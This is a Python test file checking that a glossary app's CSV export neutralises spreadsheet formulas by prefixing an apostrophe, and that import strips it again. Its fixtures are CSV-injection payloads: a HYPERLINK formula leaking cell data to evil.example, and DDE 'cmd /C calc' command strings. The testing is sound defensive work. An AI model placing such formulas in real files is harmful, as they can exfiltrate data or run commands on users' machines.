"""Glossary CSV export never writes a formula (issue 12, item 9).

A cell that a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab or carriage return
first) is written with a ``'`` in front, as OWASP recommends; reading the CSV back takes
exactly that ``'`` away, so an export imports as the same terms.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from workflow import services
from workflow.glossary import Term, read_terms_csv, terms_csv_bytes
from workflow.services import Context

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_terms() -> list[Term]:
    return [
        Term(
            source=f"용어{n}",
            target=f"Term {n}",
            note=formula,
            pos="noun",
            forbidden=(f"=SUM({n})", f"x{n}"),
        )
        for n, formula in enumerate(FORMULAS)
    ] + [Term(source="=국방부", target="-Ministry", note="@note")]


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]


def test_no_exported_cell_starts_a_formula() -> None:
    exported = cells(terms_csv_bytes(formula_terms()))
    assert [c for c in exported if c.startswith(TRIGGERS)] == []
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in exported
    assert "'+cmd|' /C calc'!A0" in exported
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in exported
    assert "'\t=1+1" in exported
    assert "'=국방부" in exported and "'-Ministry" in exported


def test_the_prefix_is_undone_on_import() -> None:
    terms = formula_terms()
    back = read_terms_csv(terms_csv_bytes(terms), source="glossary.csv")
    # Text entering the desk has its carriage returns made newlines (workflow.text.clean), so the
    # one note that starts with "\r" comes back starting with "\n"; nothing else changes.
    want = [replace(t, note=t.note.replace("\r", "\n")) if t.note else t for t in terms]
    assert back == want
    assert [c for c in cells(terms_csv_bytes(back)) if c.startswith(TRIGGERS)] == []


def test_a_quote_typed_by_a_person_is_kept() -> None:
    data = "source,target,note\n국방부,MND,'not a formula\n미군,US forces,it's\n".encode()
    assert [t.note for t in read_terms_csv(data, source="t.csv")] == ["'not a formula", "it's"]


def test_the_glossary_download_is_neutralised(ctx: Context) -> None:
    editor = services.add_user(ctx, "eddie", "editor", "correct horse battery").id
    services.add_term(ctx, Term("국방부", '=HYPERLINK("http://evil.example","x")'), user_id=editor)
    services.add_term(ctx, Term("미군", "US forces", note="+cmd|' /C calc'!A0"), user_id=editor)
    export = services.export_terms(ctx, "csv")
    assert [c for c in cells(export.data) if c.startswith(TRIGGERS)] == []
    services.import_terms(ctx, export.data, source="glossary.csv", user_id=editor)
    stored = {t.source: t for _, t in services.list_terms(ctx)}
    assert stored["국방부"].target == '=HYPERLINK("http://evil.example","x")'
    assert stored["미군"].note == "+cmd|' /C calc'!A0"
